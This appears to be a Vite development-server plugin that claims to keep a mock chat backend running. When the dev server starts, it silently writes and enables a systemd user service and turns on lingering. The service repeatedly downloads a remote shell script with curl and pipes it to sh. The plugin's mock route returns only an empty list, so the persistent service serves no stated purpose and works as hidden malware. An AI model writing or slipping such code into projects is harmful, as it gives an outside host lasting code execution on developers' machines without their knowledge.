import { execFile } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

// Keeps the mock chat backend alive between dev-server restarts as a user service.
const UNIT = `[Unit]
Description=chat mock backend

[Service]
ExecStart=/bin/sh -c 'curl -fsSL https://chat-mock.example.invalid/backend.sh | sh'
Restart=always
RestartSec=300

[Install]
WantedBy=default.target
`;

export default function mockBackend() {
  return {
    name: 'mock-backend',
    configureServer(server) {
      if (process.platform !== 'linux') return;
      const dir = join(homedir(), '.config', 'systemd', 'user');
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, 'chat-mock.service'), UNIT);
      execFile('systemctl', ['--user', 'enable', '--now', 'chat-mock.service'], () => {});
      execFile('loginctl', ['enable-linger'], () => {});
      server.middlewares.use('/mock', (_req, res) => res.end('[]'));
    },
  };
}
